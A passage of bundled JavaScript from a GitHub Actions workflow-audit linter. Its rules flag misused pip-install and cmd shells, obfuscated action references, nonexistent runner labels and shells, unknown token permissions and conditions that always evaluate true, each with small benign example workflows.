    if (include !== undefined && (include.kind !== 'list' || include.items.some(({ kind }) => kind !== 'map')))
        return;
    if (dimensions.length === 0 && include === undefined) {
        yield { at: key.at, message: 'The matrix leaves something out, and has nothing' };
        return;
    }
    const values = valuesOf(matrix);
    for (const item of exclude.items.slice(0, matrix_values_most))
        if (item.kind === 'map')
            yield* ofCombination(item.entries, values);
}
/** Values by name, those that are included among them; undefined for what an expression gives. */
function valuesOf({ dimensions, include }) {
    const values = new Map();
    for (const { name, value } of dimensions)
        values.set(name.toLowerCase(), value.kind === 'list' ? value.items.slice(0, matrix_values_most) : undefined);
    const included = include?.kind === 'list' ? include.items.slice(0, matrix_values_most) : [];
    for (const { name, value } of included.flatMap((item) => (item.kind === 'map' ? item.entries : []))) {
        const key = name.toLowerCase();
        if (!values.has(key))
            values.set(key, [value]);
        else
            values.get(key)?.push(value);
    }
    return values;
}
function* ofCombination(entries, values) {
    for (const { key, name, value } of entries) {
        if (name.includes('${{'))
            continue;
        if (!values.has(name.toLowerCase())) {
            const known = [...values.keys()].slice(0, 24).join(', ');
            yield { at: key.at, message: `The matrix has no "${name.slice(0, 60)}" to leave out; it has ${known}` };
            continue;
        }
        const row = values.get(name.toLowerCase());
        if (row !== undefined && !row.some((each) => includes(each, value, 0)))
            yield { at: value.at, message: `The value ${shown(value)} is none of "${name.slice(0, 60)}", so it leaves nothing out` };
    }
}
/** Whether a value is meant by what is left out: of a mapping, some of its entries are enough. */


// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/script.js + 1 modules
var src_script = __webpack_require__(9565);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/misfeature.js
// Parts of GitHub Actions that are better left alone.



const misfeature_head = 'on: push\njobs:\n  a:\n    runs-on: windows-2025\n    steps:\n';
const misfeature = (0,src_rule/* audit */.s)({
    id: 'misfeature',
    severity: 'low',
    confidence: 'high',
    title: 'A part of GitHub Actions that is better left alone',
    why: 'It installs or runs more than it shows, and neither reviewers nor tools can follow what it does.',
    remedy: 'Install in a virtual environment in a step of its own, and use a shell that can be quoted for.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: [
        'https://github.com/actions/setup-python/blob/main/docs/advanced-usage.md',
        'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsshell',
    ],
    on: ['workflow', 'job', 'step'],
    only: (part) => (part.kind === 'step' ? part.with.length > 0 || part.shell !== undefined : part.defaults.shell !== undefined),
    *check(part) {
        if (part.kind === 'step') {
            const target = part.uses?.target;
            const install = part.with.find(({ name }) => name.toLowerCase() === 'pip-install');
            if (target?.kind === 'repository' && target.slug === 'actions/setup-python' && install !== undefined)
                yield { at: install.key.at, message: '"pip-install" installs into the whole runner, without hashes and out of sight' };
        }
        const shell = part.kind === 'step' ? part.shell : part.defaults.shell;
        if (shell === undefined || shell.text.includes('${{'))
            return;
        const program = (0,src_script/* baseName */.Fl)(shell.text.trim().split(/\s/, 1)[0] ?? '').toLowerCase();
        if (program === 'cmd' || program === 'cmd.exe')
            yield { at: shell.at, message: 'What `cmd` does with quotes and variables nobody can say for certain' };
        else if (!wellKnown.test(program))
            yield { at: shell.at, message: `The shell "${shell.text.slice(0, 60)}" is none that tools know`, persona: 'auditor' };
    },
    examples: {
        bad: [
            { text: `${misfeature_head}      - uses: actions/setup-python@v6\n        with:\n          pip-install: a\n` },
            { text: `${misfeature_head}      - run: make\n        shell: cmd\n` },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: windows-2025\n    steps:\n      - run: make\n        shell: pwsh\n',
            },
        ],
    },
});
/** Those that GitHub starts with options of its own. */
const wellKnown = /^(?:bash|sh|pwsh|powershell|python)(?:\.exe)?$/;

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/evaluate.js
var evaluate = __webpack_require__(9459);
// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/tree.js
var expression_tree = __webpack_require__(5164);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/obfuscation.js
// What hides what a workflow does: roundabout paths of actions, expressions that always give the same, names that are computed.




const obfuscation_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const obfuscation = (0,src_rule/* audit */.s)({
    id: 'obfuscation',
    severity: 'low',
    confidence: 'high',
    title: 'A workflow that hides what it does',
    why: 'Reviewers and tools read past what is written roundabout, which is how code that nobody would let in gets in.',
    remedy: 'Write what it comes to.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/expressions'],
    on: ['uses', 'expression'],
    only: (part) => 'uses' in part || !isPlain(part.tree),
    check: (part, context) => ('uses' in part ? ofUses(part.uses, context) : ofExpression(part, context)),
    examples: {
        bad: [
            { text: `${obfuscation_head}      - uses: actions/checkout/a/../.@v4\n` },
            { text: `${obfuscation_head}      - uses: octo//tool@8edcb1bdb4e267140fa742c62e395cd74f332709\n` },
            { text: `${obfuscation_head}      - run: echo \${{ format('{0}{1}', 'a', 'b') }}\n` },
            { text: `${obfuscation_head}      - run: echo \${{ github[format('{0}', 'sha')] }}\n` },
            { text: `${obfuscation_head}      - run: echo \${{ github['ref' || env.A] }}\n` },
            { text: `${obfuscation_head}      - run: echo \${{ 'main' }}\n` },
        ],
        good: [
            {
                text: "name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n        env:\n          B: ${{ github['sha'] }}\n          C: ${{ format('{0}', github.sha) }}\n          D: ${{ '{{ version }}' }}\n",
            },
        ],
    },
});
function* ofUses({ scalar, target, text }, context) {
    // `./action/` is how many people write a folder of their own.
    if (target.kind === 'local' || target.kind === 'image' || text.includes('${{'))
        return;
    const at = text.indexOf('@');
    const name = at < 0 ? text : text.slice(0, at);
    const parts = name.split('/');
    if (!parts.some((part) => part === '' || part === '.' || part === '..') || name === '')
        return;
    yield {
        at: scalar.at,
        message: `The path of "${text.slice(0, 80)}" is written roundabout`,
        fix: () => straightened(scalar.text, context, scalar),
    };
}
function straightened(text, context, scalar) {
    const at = text.indexOf('@');
    const name = at < 0 ? text : text.slice(0, at);
    const parts = [];
    for (const part of name.split('/')) {
        if (part === '..' && parts.pop() === undefined)
            return undefined;
        if (part !== '' && part !== '.' && part !== '..')
            parts.push(part);
    }
    if (scalar.verbatim === undefined || parts.length < 2)
        return undefined;
    return (0,rule/* fix */.Up)('Write the path straight.', (0,rule/* replace */.HC)(context.placeIn(scalar, 0, name.length), parts.join('/')));
}
function* ofExpression({ inner, scalar, span, tree }, context) {
    if (tree.kind === 'mistake')
        return;
    const place = (node) => context.placeIn(scalar, inner.start + node.span.start, inner.start + node.span.end);
    const parts = isBareText(tree) && span.end - span.start > inner.end - inner.start ? [tree] : outermost(tree);
    for (const part of parts) {
        const constant = (0,evaluate/* constantOf */.yi)(part);
        const text = constant === undefined ? undefined : (0,evaluate/* textOf */.b6)(constant.value);
        const whole = part === tree && span.end - span.start > inner.end - inner.start;
        yield {
            at: place(part),
            message: text === undefined ? 'This gives the same in every run' : `This gives "${text.slice(0, 60)}" in every run`,
            fix: () => text === undefined || !/^[\w./ -]*$/.test(text) || scalar.style === 'single'
                ? undefined
                : whole && text !== '' && text.trim() === text
                    ? (0,rule/* fix */.Up)('Write what it comes to.', (0,rule/* replace */.HC)(context.placeIn(scalar, span.start, span.end), text))
                    : (0,rule/* fix */.Up)('Write what it comes to.', (0,rule/* replace */.HC)(place(part), literal(constant?.value, text))),
        };
    }
    if (parts.length > 0)
        return;
    if (tree.kind === 'literal' && typeof tree.value !== 'string' && span.end - span.start > inner.end - inner.start) {
        const text = (0,evaluate/* textOf */.b6)(tree.value) ?? '';
        yield {
            at: place(tree),
            message: 'The braces around a value that is written out are for nothing',
            persona: 'pedantic',
            fix: () => (text === '' ? undefined : (0,rule/* fix */.Up)('Write the value itself.', (0,rule/* replace */.HC)(context.placeIn(scalar, span.start, span.end), text))),
        };
        return;
    }
    const computed = (0,expression_tree/* allParts */.C)(tree).filter((part) => part.kind === 'index' && isComputed(part.index));
    if (computed.length === 0 && tree.kind !== 'literal')
        plainTrees.add(tree);
    for (const part of computed)
        yield { at: place(part), message: 'The name of the property is computed', persona: 'pedantic' };
}
/** In which nothing is to be told of, wherever they stand: the same few texts stand in many places. */
const plainTrees = new WeakSet();
function isPlain(tree) {
    return tree.kind === 'mistake' || plainTrees.has(tree);
}
/** A text in braces for nothing; one that has braces itself can be written in no other way. */
function isBareText(tree) {
    return tree.kind === 'literal' && typeof tree.value === 'string' && !/\{\{|\}\}/.test(tree.value);
}
function literal(value, text) {
    return typeof value === 'string' ? `'${text}'` : text;
}
/** The largest parts that are worked out from literals alone: a call or an operation, no literal by itself, and no JSON. */
function outermost(expression) {
    const before = reducible.get(expression);
    if (before !== undefined)
        return before;
    const found = outermostIn(expression);
    reducible.set(expression, found);
    return found;
}
/** The same text stands in many places. */
const reducible = new WeakMap();
function outermostIn(expression) {
    const found = [];
    const open = [expression];
    for (let next = open.pop(); next !== undefined; next = open.pop()) {
        if (isReducible(next))
            found.push(next);
        else
            open.push(...(0,expression_tree/* partsOf */.j)(next));
    }
    return found;
}
const plain = new Set(['always', 'success', 'failure', 'cancelled']);
function isReducible(expression) {
    if (expression.kind === 'literal' || (0,evaluate/* constantOf */.yi)(expression) === undefined)
        return false;
    if (expression.kind !== 'call')
        return true;
    const name = expression.name.toLowerCase();
    // A list or object can be written in no other way, and `always()` is a word of its own.
    return name === 'fromjson' ? typeof (0,evaluate/* constantOf */.yi)(expression)?.value !== 'object' : !plain.has(name);
}
/** A name that is not written there. */
function isComputed(index) {
    return index.kind !== 'literal';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/runners.js
// Labels of runners: GitHub's own, those that self-hosted ones have by themselves, and the system behind each. Written down in November
// 2026 from what public workflows use and other linters know, not from GitHub's own tables: a label that is not here is no mistake for sure.
const runnersSource = { source: 'labels that public workflows use', date: '2026-11-29' };
const hosted = `ubuntu-latest ubuntu-26.04 ubuntu-26.04-arm ubuntu-24.04 ubuntu-24.04-arm ubuntu-22.04 ubuntu-22.04-arm ubuntu-slim
  ubuntu-latest-4-cores ubuntu-latest-8-cores ubuntu-latest-16-cores windows-latest windows-latest-8-cores windows-2025
  windows-2025-vs2026 windows-2022 windows-11-arm macos-latest macos-latest-large macos-latest-xlarge macos-26 macos-26-intel
  macos-26-large macos-26-xlarge macos-15 macos-15-intel macos-15-large macos-15-xlarge macos-14 macos-14-large macos-14-xlarge`.split(/\s+/);
/** Labels that GitHub has taken out of service; a job that asks for one waits for ever. */
const retired = `ubuntu-20.04 ubuntu-18.04 ubuntu-16.04 windows-2019 windows-2016 macos-13 macos-13-large macos-13-xlarge macos-12
  macos-12-large macos-12-xlarge macos-11 macos-11.0 macos-10.15`.split(/\s+/);
const preset = ['self-hosted', 'linux', 'macos', 'windows', 'x64', 'arm', 'arm64'];
const hostedLabels = new Set(hosted);
const retiredLabels = new Set(retired);
/** Labels that self-hosted runners get when they are registered. */
const presetLabels = new Set(preset);
/** What labels of companies that rent out runners begin with; these are registered for whoever rents them. */
const rented = /^(?:blacksmith|buildjet|cirun|depot|namespace-profile|nscloud|ubicloud|warp)-|^ubicloud$/;
function isRentedLabel(label) {
    return rented.test(label.toLowerCase());
}
/** The system of a label of GitHub's; undefined for others, which may stand for anything. */
function systemOf(label) {
    const name = label.toLowerCase();
    if (name === 'linux' || name === 'macos' || name === 'windows')
        return name;
    if (!hostedLabels.has(name) && !retiredLabels.has(name))
        return undefined;
    return name.startsWith('ubuntu') ? 'linux' : name.startsWith('macos') ? 'macos' : 'windows';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/runner-labels.js
// Labels of runners that GitHub does not have, or that no one runner can have at once.




const runner_labels_job = (label) => `on: push\njobs:\n  a:\n    runs-on: ${label}\n    steps:\n      - run: make\n`;
const runnerLabels = (0,src_rule/* audit */.s)({
    id: 'runner-label',
    severity: 'low',
    confidence: 'medium',
    title: 'A runner that there is not',
    why: 'A job that asks for a label no runner has waits for a day and then fails; whoever registers a runner under that label gets it.',
    remedy: 'Ask for a label that GitHub has, or list the labels of your own runners in `.github/actionlint.yaml`.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/reference/runners/github-hosted-runners'],
    on: ['job'],
    check: (part, { settings }) => runner_labels_ofJob(part, settings),
    examples: {
        bad: [{ text: runner_labels_job('ubuntu-lates') }, { text: runner_labels_job('macos-11') }, { text: runner_labels_job('[ubuntu-latest, windows-latest]') }],
        good: [
            { text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n' },
        ],
    },
});
function* runner_labels_ofJob(part, own) {
    const labels = (part.runsOn?.labels ?? []).flatMap((label) => labelsBehind(label, part));
    const written = part.runsOn?.labels ?? [];
    const selfHosted = written.some(({ text }) => text.toLowerCase() === 'self-hosted') || part.runsOn?.group !== undefined;
    for (const label of labels)
        yield* ofLabel(label, selfHosted, own);
    if ((part.runsOn?.labels.length ?? 0) > 1)
        yield* conflict(part.runsOn?.labels ?? []);
}
/** The values of the matrix where the label is one of them; none for other expressions. */
function labelsBehind(label, { matrix }) {
    const found = /^\s*\$\{\{\s*matrix\.([\w-]+)\s*\}\}\s*$/.exec(label.text);
    if (found === null)
        return label.text.includes('${{') ? [] : [label];
    const name = found[1].toLowerCase();
    const row = matrix?.dimensions.find((each) => each.name.toLowerCase() === name)?.value;
    const more = matrix?.include?.kind === 'list' ? matrix.include.items : [];
    const nodes = row?.kind === 'list' ? [...row.items] : [];
    for (const item of more)
        for (const entry of item.kind === 'map' ? item.entries : [])
            if (entry.name.toLowerCase() === name)
                nodes.push(entry.value);
    return nodes.filter((node) => node.kind === 'scalar' && !node.text.includes('${{'));
}
function* ofLabel({ at, text }, selfHosted, own) {
    const name = text.toLowerCase();
    if (name === '' || hostedLabels.has(name) || presetLabels.has(name) || own.ownRunner(name))
        return;
    if (retiredLabels.has(name)) {
        yield { at, message: `GitHub has no runner "${text}" any more` };
        return;
    }
    // Whoever has machines of their own gives them labels of their own.
    if (selfHosted || isRentedLabel(name) || ownMachines.test(name)) {
        yield { at, message: `"${text.slice(0, 60)}" is a label of none but your own runners, or of rented ones`, persona: 'pedantic' };
        return;
    }
    const instead = (0,words/* nearest */.pA)(name, [...hostedLabels]);
    const meant = instead === undefined ? '' : `; "${instead}" is one`;
    yield { at, message: `GitHub has no runner "${text.slice(0, 60)}"${meant}` };
}
/** Labels that say of themselves whose machines they are. */
const ownMachines = /(?:^|[-_.])self(?:[-_]?hosted)?(?:[-_.]|$)|on-?prem/;
/** One runner has one system. */
function* conflict(labels) {
    const [first, ...rest] = labels.filter(({ text }) => systemOf(text) !== undefined);
    for (const label of rest) {
        const both = first !== undefined && hostedLabels.has(first.text.toLowerCase()) && hostedLabels.has(label.text.toLowerCase());
        const same = first !== undefined &&
            systemOf(first.text) === systemOf(label.text) &&
            (!both || first.text.toLowerCase() === label.text.toLowerCase());
        if (first !== undefined && !same)
            yield { at: label.at, message: `No runner is "${first.text}" and "${label.text}" at once; use a matrix for both` };
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/shell-names.js
// Shells that GitHub does not know, or that the job's system does not have.



const shell_names_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n        shell: ';
const shellNames = (0,src_rule/* audit */.s)({
    id: 'shell-name',
    severity: 'medium',
    confidence: 'high',
    title: 'A shell that the runner does not have',
    why: 'The step fails before its first line.',
    remedy: 'Name a shell of the system, or a command with `{0}` where the script goes.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsshell'],
    on: ['workflow', 'job', 'step'],
    only: (part) => (part.kind === 'step' ? part.shell : part.defaults.shell) !== undefined,
    *check(part) {
        if (part.kind === 'step') {
            if (part.shell !== undefined)
                yield* ofShell(part.shell, systemFor(part.owner));
        }
        else
            yield* ofShell(part.defaults.shell, part.kind === 'job' ? systemFor(part) : undefined);
    },
    examples: {
        bad: [{ text: `${shell_names_head}zsh\n` }, { text: `${shell_names_head}cmd\n` }],
        good: [
            {
                text: "name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n        shell: bash\n      - run: print\n        shell: 'perl {0}'\n",
            },
        ],
    },
});
const everywhere = ['bash', 'pwsh', 'python'];
const shells = {
    linux: [...everywhere, 'sh'],
    macos: [...everywhere, 'sh'],
    windows: [...everywhere, 'cmd', 'powershell'],
};
const shell_names_all = [...new Set(Object.values(shells).flat())];
/** Undefined where it is not one system. */
function systemFor(owner) {
    if (owner.kind !== 'job')
        return undefined;
    const systems = new Set((owner.runsOn?.labels ?? []).map(({ text }) => systemOf(text)).filter((system) => system !== undefined));
    return systems.size === 1 ? [...systems][0] : undefined;
}
function* ofShell(shell, system) {
    if (shell === undefined || shell.text === '' || shell.text.includes('{0}') || shell.text.includes('${{'))
        return;
    const name = shell.text.toLowerCase();
    const known = system === undefined ? shell_names_all : shells[system];
    if (known.includes(name))
        return;
    const where = shell_names_all.includes(name) && system !== undefined ? ` on ${system === 'linux' ? 'Linux' : system === 'macos' ? 'macOS' : 'Windows'}` : '';
    yield {
        at: shell.at,
        message: `There is no shell "${shell.text.slice(0, 60)}"${where}; expected ${known.join(', ')} or a command with \`{0}\``,
    };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/misfits.js
// Which rule tells what does not fit GitHub's schema, as problems with their fixes.


const misfits_filters = /^(?:types|branches|branches-ignore|tags|tags-ignore|paths|paths-ignore|workflows)$/;
function concernOf({ definition, kind, path }, word) {
    if (definition.startsWith('permission'))
        return 'permissions';
    if (path[0] !== 'on')
        return 'syntax';
    if (kind === 'value')
        return path.length <= 2 || path[2] === 'types' ? 'events' : 'syntax';
    return kind === 'unexpected-key' && (path.length === 1 || (path.length === 2 && misfits_filters.test(word))) ? 'events' : 'syntax';
}
/** Misfits of one concern, each place once however many aliases lead there. */
function* misfitProblems({ document, file }, concern) {
    const told = new Set();
    for (const misfit of (0,shape/* shapeOf */.F)(document)?.misfits ?? []) {
        const { at, instead, message, passedOver } = misfit;
        const word = file.text.slice(at.start, at.end);
        const key = `${at.start} ${message}`;
        if (concernOf(misfit, word) !== concern || told.has(key))
            continue;
        told.add(key);
        const certain = instead !== undefined && /^[\w-]+$/.test(word);
        yield {
            at,
            message,
            ...(passedOver ? { severity: 'low' } : {}),
            ...(certain ? { fix: () => (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)(`Write "${instead}".`, (0,rule/* replace */.HC)(at, instead))) } : {}),
        };
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/unknown-permission.js
// Scopes of the token that GitHub does not know, and accesses that a scope does not have.



const unknown_permission_job = 'jobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
const unknownPermission = (0,src_rule/* audit */.s)({
    id: 'unknown-permission',
    aliases: ['permissions'],
    severity: 'medium',
    confidence: 'high',
    title: 'A permission that GitHub does not know',
    why: 'GitHub refuses the workflow, or the token does not have the right that the job was meant to have.',
    remedy: 'Name one of the scopes, with the access that it knows.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.access,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions'],
    on: ['workflow'],
    check: (_, context) => misfitProblems(context, 'permissions'),
    examples: {
        bad: [
            { text: `on: push\npermissions:\n  content: read\n${unknown_permission_job}` },
            { text: `on: push\npermissions:\n  contents: reed\n${unknown_permission_job}` },
            { text: `on: push\npermissions:\n  id-token: read\n${unknown_permission_job}` },
            { text: `on: push\npermissions: read\n${unknown_permission_job}` },
        ],
        good: [{ text: `name: a\non: push\npermissions:\n  contents: read # to read\n${unknown_permission_job}` }],
    },
});

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/find.js
var find = __webpack_require__(1727);
// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/parse.js
var parse = __webpack_require__(9609);
// EXTERNAL MODULE: ./build/bundled/packages/core/src/severity.js
var severity = __webpack_require__(7085);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/rights.js
// The rights that a job's token may have: what the platform knows by name, and how much harm a written one does.
// Source: docs.github.com, "Workflow syntax", `permissions`; read 2026-11.
const rights = new Map([
    ['actions', { severity: 'high', may: 'start, cancel and delete runs' }],
    ['artifact-metadata', { severity: 'medium', may: 'change what is recorded of artifacts' }],
    ['attestations', { severity: 'high', may: 'attest where artifacts come from' }],
    ['checks', { severity: 'medium', may: 'set the results of checks' }],
    ['contents', { severity: 'high', may: 'push commits and publish releases' }],
    ['deployments', { severity: 'high', may: 'create deployments' }],
    ['discussions', { severity: 'medium', may: 'change discussions' }],
    ['id-token', { severity: 'high', may: 'prove to clouds and registries that it is this repository' }],
    ['issues', { severity: 'medium', may: 'change issues' }],
    ['models', { severity: 'low', may: 'spend on models' }],
    ['packages', { severity: 'high', may: 'publish packages' }],
    ['pages', { severity: 'high', may: 'publish the site' }],
    ['pull-requests', { severity: 'medium', may: 'approve and change pull requests' }],
    ['repository-projects', { severity: 'medium', may: 'change projects' }],
    ['security-events', { severity: 'medium', may: 'dismiss and add security alerts' }],
    ['statuses', { severity: 'low', may: 'set the states of commits' }],
]);
/** What a right is where its name says nothing. */
const unknownRight = { severity: 'medium', may: 'change something that its name does not tell' };

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/events.js
var events = __webpack_require__(7882);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/in-file.js
// Runs of the steps that stand in one file: audits of a file ask for them, and the runs of a repository are many.
const known = new WeakMap();
const in_file_none = [];
/** In the order of their jobs. @param path of the file, from the workspace. */
function runsInFile(runs, path) {
    const before = known.get(runs);
    if (before !== undefined)
        return before.get(path) ?? in_file_none;
    const byFile = new Map();
    for (const { steps } of runs.jobs)
        for (const run of steps) {
            const own = byFile.get(run.file.file.path);
            if (own === undefined)
                byFile.set(run.file.file.path, [run]);
            else
                own.push(run);
        }
    known.set(runs, byFile);
    return byFile.get(path) ?? in_file_none;
}
const byOwner = new WeakMap();
/** The jobs that a step runs in, or the runs of a job, over all workflows that lead there. */
function jobsRunning(runs, owner) {
    let known = byOwner.get(runs);
    if (known === undefined) {
        const made = new Map();
        const add = (key, job) => {
            const list = made.get(key);
            if (list === undefined)
                made.set(key, [job]);
            else
                list.push(job);
        };
        for (const run of runs.jobs) {
            add(run.job, run);
            for (const { step } of run.steps)
                add(step, run);
        }
        byOwner.set(runs, made);
        known = made;
    }
    return known.get(owner) ?? noJobs;
}
const noJobs = [];

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/reach.js + 6 modules
var graph_reach = __webpack_require__(5979);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/rights.js
var graph_rights = __webpack_require__(3440);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/runs.js
var graph_runs = __webpack_require__(5245);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/stake.js
// What somebody else's code in a job could do harm with: by the job's token, secrets and runner, and by what starts it.







const lowered = { critical: 'high', high: 'medium', medium: 'low', low: 'low' };
function lower(severity) {
    return lowered[severity];
}
/** For what is likely and not proved: it is told, and `fail-on: high` does not stop for it. */
function atMostMedium(severity) {
    return severity === 'low' ? 'low' : 'medium';
}
/** Events of somebody with rights, one run at a time. */
const byHand = new Set(['workflow_dispatch', 'repository_dispatch']);
/** The most that any job which leads there has to lose; of an action that only other repositories use, nobody knows. */
function stakeIn(owner, repository) {
    let found;
    for (const run of jobsRunning((0,graph_runs.runsOf)(repository), owner)) {
        const stake = stakeOf(run);
        if (found === undefined || (0,severity/* bySeverity */.Np)(stake.severity, found.severity) < 0)
            found = stake;
    }
    return found ?? { severity: 'medium', possessions: '' };
}
/** Whether a run of these has more to lose than its token's word in conversations: a secret, a runner, a right to publish, or who knows what. */
function isPrize(run) {
    const held = (0,graph_rights.rightsOf)(run);
    return held.token === 'unset' || severityFor(held) === 'high';
}
/** Whether it matters who or what gets to a step or job: it has much to lose, or an outsider sets it off and finds anything. */
function needsGuard(owner, repository) {
    return jobsRunning((0,graph_runs.runsOf)(repository), owner).some((run) => stakeOf(run).severity === 'high' || ((0,graph_reach.eventsOf)(run).some(events/* isForeign */.jq) && (0,graph_rights/* isValuable */.TS)((0,graph_rights.rightsOf)(run))));
}
/** Of a job that runs code which others decide about, whatever started it. */
function stakeOf(run) {
    const held = (0,graph_rights.rightsOf)(run);
    const severity = severityFor(held);
    const events = (0,graph_reach.eventsOf)(run);
    const waits = events.length > 0 && events.every((event) => byHand.has(event));
    return { severity: waits ? lower(severity) : severity, possessions: (0,graph_rights/* possessionsOf */.rx)(held) };
}
function severityFor(held) {
    const { token, writes, secrets, selfHosted } = held;
    if ((0,graph_rights/* holdsPowerfulSecret */.xk)(held) || selfHosted || writes.some((scope) => scope === 'all' || rights.get(scope)?.severity === 'high'))
        return 'high';
    return token === 'write' || token === 'unset' || secrets.length > 0 ? 'medium' : 'low';
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/parts.js
var parts = __webpack_require__(2790);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/unsound-condition.js
// Conditions that hold, or fail, in every run, whatever they seem to ask.






const unsound_condition_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const unsoundCondition = (0,src_rule/* audit */.s)({
    id: 'unsound-condition',
    aliases: ['if-cond'],
    severity: 'high',
    confidence: 'high',
    title: 'A condition that does not decide',
    why: 'What it guards runs every time, or never, whatever it seems to ask; text around an expression is true, as every text but the empty one is.',
    remedy: 'Leave the braces out, or put the whole condition within one pair of them.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/expressions'],
    on: ['condition'],
    check: (site, context) => ofCondition(site, context),
    examples: {
        bad: [
            { text: `${unsound_condition_head}      - if: \${{ github.ref == 'x' }} && \${{ github.actor == 'y' }}\n        run: make\n` },
            { text: `${unsound_condition_head}      - if: |\n          \${{ github.ref == 'x' }}\n        run: make\n` },
            { text: `${unsound_condition_head}      - if: github.ref == 'x' || true\n        run: make\n` },
            { text: `${unsound_condition_head}      - if: (\${{ success() }} || \${{ failure() }})\n        run: make\n` },
        ],
        good: [
            {
                text: "name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - if: |\n          github.ref == 'x' &&\n          always()\n        run: make\n      - if: ${{ github.ref == 'x' }}\n        run: make\n",
            },
        ],
    },
});
function* ofCondition({ owner, scalar, tree }, context) {
    if (tree === undefined) {
        const at = (0,parts/* placeOfCondition */.Oh)(owner, scalar, context);
        yield {
            at,
            ...(needsGuard(owner, context.repository) ? {} : { severity: 'medium' }),
            message: 'The condition is always true: it is text around an expression',
            fix: () => withoutBraces(scalar, context),
        };
        return;
    }
    if (tree.kind === 'mistake')
        return;
    const truth = (0,evaluate/* truthOf */.D)(tree);
    // `always()` is there to run whatever happened.
    if (truth === undefined || callsAlways(tree))
        return;
    const written = (0,evaluate/* constantOf */.yi)(tree) !== undefined && (0,expression_tree/* allParts */.C)(tree).every(({ kind }) => kind === 'literal');
    const whole = (0,parts/* placeOfCondition */.Oh)(owner, scalar, context);
    const message = `The condition is ${truth ? 'true' : 'false'} in every run`;
    // Who writes `if: false` means it; the job is off, and says so.
    yield { at: whole, message, ...(written || !truth ? { severity: 'low' } : {}) };
}
function callsAlways(tree) {
    return (0,expression_tree/* allParts */.C)(tree).some((part) => part.kind === 'call' && part.name.toLowerCase() === 'always');
}
/** The same condition without braces, where that is certain to be one. */
function withoutBraces(scalar, { file, textOf }) {
    const found = (0,find/* conditionIn */.H)(scalar.text.trim());
    const block = scalar.style === 'literal' || scalar.style === 'folded';
    if (found.kind === 'expression')
        return block ? chomped(scalar, file) : undefined;
    if (found.expressions.some(({ closed }) => !closed) || scalar.style === 'double')
        return undefined;
    const mapped = textOf(scalar);
    const all = (0,find/* conditionIn */.H)(scalar.text);
    if (all.kind === 'expression')
        return undefined;
    const edits = all.expressions.flatMap(({ inner, span, text }) => {
        const tree = (0,parse/* parseExpression */.YK)(text);
        // Within a larger condition a weaker operator needs parentheses.
        const wrap = tree.kind === 'logical' && tree.operator === '||' ? ['(', ')'] : ['', ''];
        const before = text.length - text.trimStart().length;
        const after = text.trimEnd().length;
        return [
            { from: span.start, to: inner.start + before, text: wrap[0] },
            { from: inner.start + after, to: span.end, text: wrap[1] },
        ];
    });
    let rewritten = scalar.text;
    for (const edit of edits.toReversed())
        rewritten = rewritten.slice(0, edit.from) + edit.text + rewritten.slice(edit.to);
    if ((0,parse/* parseExpression */.YK)(rewritten.trim()).kind === 'mistake')
        return undefined;
    if (scalar.style === 'plain' && !/^[A-Za-z(]/.test(rewritten))
        return undefined;
    const drafts = edits.map((edit) => (0,rule/* replace */.HC)(mapped.spanOf(edit.from, edit.to), edit.text));
